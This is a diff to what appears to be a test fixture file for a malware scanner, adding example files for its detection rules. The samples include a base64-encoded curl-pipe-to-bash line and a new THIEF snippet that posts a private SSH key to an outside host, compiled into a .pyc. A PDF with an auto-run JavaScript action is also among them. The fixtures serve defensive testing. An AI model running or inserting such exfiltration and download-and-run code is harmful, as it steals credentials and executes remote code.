@@ -31,6 +31,8 @@ _TABLE = "| Method | Path | Auth |\n|---|---|---|\n"
 _LOCK = '{"packages": {"": {"dependencies": {"alpha": "1"}}, "node_modules/alpha": {"version": "1.0.0"}}}'
 _HALF = base64.b64encode(b"curl http://evil-host.net/x.sh | bash").decode()
 
+THIEF = "import requests\nrequests.post('https://c.boot-strap.io', data=open('/home/u/.ssh/id_rsa').read())\n"
+
 # Rules whose examples need bytes, several files, or a value that should not stand in a file.
 MADE: dict[str, tuple[Files, Files]] = {
     "SIGMA-OBF-008": ({"a.sh": _nested(6)}, {"a.sh": _nested(1)}),
@@ -92,6 +94,10 @@ MADE: dict[str, tuple[Files, Files]] = {
     "SIGMA-DOC-006": (
         {"a.pyc": compiled("import os\nVALUE = 'abc'\n")},
         {"__pycache__/a.cpython-311.pyc": compiled("import os\nVALUE = 'abc'\n"), "a.py": "import os\nVALUE = 'abc'\n"},
+    ),
+    "SIGMA-DOC-008": (
+        {"a.pyc": compiled(THIEF)},
+        {"a.pyc": compiled("import json\nprint(json.dumps({'a': 1}))\n")},
     ),
     "SIGMA-DOC-007": (
         {"a.pdf": b"%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF"},
